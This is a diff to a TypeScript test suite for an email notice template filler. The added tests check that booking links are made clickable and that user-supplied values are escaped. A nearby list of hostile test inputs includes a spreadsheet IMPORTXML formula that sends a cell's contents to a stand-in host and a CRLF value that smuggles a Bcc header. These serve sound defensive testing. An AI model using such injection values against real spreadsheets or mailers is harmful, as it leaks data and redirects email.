@@ -10,6 +10,7 @@ import {
   type Template,
   templateFingerprint,
 } from '../../../src/domain/notices/template';
+import {fill} from '../../../src/domain/notices/text';
 
 const template = (more: Partial<Template> = {}): Template => ({
   subject: 'Dag {{First name}}',
@@ -35,6 +36,45 @@ const HOSTILE = [
   '=IMPORTXML("https://e.x/?"&A2,"//a")',
   'Zoë\r\nBcc: all@x.be',
 ];
+
+const URL = 'https://docs.google.com/forms/d/e/x/viewform?a=1&b=2';
+const CLICK =
+  '<a href="https://docs.google.com/forms/d/e/x/viewform?a=1&amp;b=2">https://docs.google.com/forms/d/e/x/viewform?a=1&amp;b=2</a>';
+
+describe('an address that the tool puts in', () => {
+  const text = {subject: 'x', body: ['Dag {{First name}},', 'Kies:\n{{Booking link}}']};
+
+  it('is a link to click in the HTML of a built-in text, and stays as it is in the plain part', () => {
+    const filled = fill(text, {firstName: 'Zoë', bookingLink: URL});
+
+    expect(filled.html).toContain(`<p>Kies:<br>${CLICK}</p>`);
+    expect(filled.text).toContain(`Kies:\n${URL}\n`);
+  });
+
+  it('is one only where it is the tool’s: never what a person typed, nor what is no address', () => {
+    const {html} = fill(text, {firstName: 'https://evil.example.org', bookingLink: 'YOUR-LINK "x" https://y'});
+
+    expect(html).not.toContain('<a ');
+    expect(html).toContain('YOUR-LINK &quot;x&quot; https://y');
+  });
+
+  it.each([
+    ['in a text', '<p>{{Booking link}}</p>', `<p>${CLICK}</p>`],
+    [
+      'after a link of the officer’s',
+      '<a href="https://x.be">x</a> {{Booking link}}',
+      `<a href="https://x.be">x</a> ${CLICK}`,
+    ],
+    ['as the target of one', '<a href="{{Booking link}}">here</a>', `<a href="${URL.replace('&', '&amp;')}">here</a>`],
+    [
+      'within one',
+      '<A href="https://x.be">{{Booking link}}</A>',
+      `<A href="https://x.be">${URL.replace('&', '&amp;')}</A>`,
+    ],
+  ])('is one in an officer’s own template %s', (_where, html, wanted) => {
+    expect(fillTemplate(template({html}), {firstName: 'Zoë', bookingLink: URL}).html).toBe(wanted);
+  });
+});
 
 describe('a template filled', () => {
   it.each(HOSTILE)('takes %j as text, in subject, text and markup', firstName => {
